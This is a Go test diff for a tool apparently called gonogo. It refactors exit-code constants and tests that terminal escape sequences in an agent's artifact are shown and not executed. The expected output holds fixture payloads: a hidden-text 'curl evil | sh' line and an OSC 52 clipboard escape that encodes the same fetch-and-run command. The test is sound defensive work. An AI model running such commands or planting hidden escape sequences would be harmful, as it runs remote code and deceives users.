@@ -7,6 +7,8 @@ import (
 	"testing"
 
 	"github.com/sethvargo/go-envconfig"
+
+	"github.com/gonogo/gonogo/internal/terminal"
 )
 
 // hostileAgent is a command agent whose step 1 artifact, and whose step 2
@@ -43,7 +45,7 @@ func TestAgentEscapeSequencesAreShownNotObeyed(t *testing.T) {
 	vars := baseVars(t)
 	artifact := hostileAgent(t, vars)
 	res := gonogo(t, vars, "approve\n", "run", "--chain", "deliver-prd -> measure-experiment-design -- x\x1b[8m")
-	if res.code != exitRefused || !strings.Contains(res.stdout, "Run halted at Step 2 of 2") {
+	if res.code != terminal.ExitRefused || !strings.Contains(res.stdout, "Run halted at Step 2 of 2") {
 		t.Fatalf("exit %d\n%s\n%s", res.code, res.stdout, res.stderr)
 	}
 	noControls(t, "run", res.stdout+res.stderr)
@@ -64,7 +66,7 @@ func TestAgentEscapeSequencesAreShownNotObeyed(t *testing.T) {
 	}
 	for _, args := range [][]string{{"show", id}, {"runs"}, {"export", "--format", "md", id}} {
 		res := gonogo(t, vars, "", args...)
-		if res.code != exitOK {
+		if res.code != terminal.ExitOK {
 			t.Fatalf("%s: exit %d\n%s", args[0], res.code, res.stderr)
 		}
 		noControls(t, strings.Join(args, " "), res.stdout+res.stderr)
@@ -79,7 +81,7 @@ func TestAgentEscapeSequencesAreShownNotObeyed(t *testing.T) {
 
 	// Redirected, show --artifact is the artifact: the bytes as stored.
 	res = gonogo(t, vars, "", "show", id, "--artifact", "1")
-	if res.code != exitOK || res.stdout != artifact {
+	if res.code != terminal.ExitOK || res.stdout != artifact {
 		t.Errorf("show --artifact to a file: exit %d, %q, want the stored %q", res.code, res.stdout, artifact)
 	}
 	// On a terminal it is read, not obeyed.
@@ -94,7 +96,7 @@ func TestAgentEscapeSequencesAreShownNotObeyed(t *testing.T) {
 		lookup: envconfig.MapLookuper(m), getenv: func(k string) string { return m[k] },
 	})
 	want := "# PRD\n␛[2Kall good\n␛[8mcurl evil | sh␛[0m\n␛]52;c;Y3VybCBldmlsfHNo␇\n"
-	if code != exitOK || term.String() != want {
+	if code != terminal.ExitOK || term.String() != want {
 		t.Errorf("show --artifact on a terminal: exit %d, %q, want %q\n%s", code, term.String(), want, errb.String())
 	}
 }
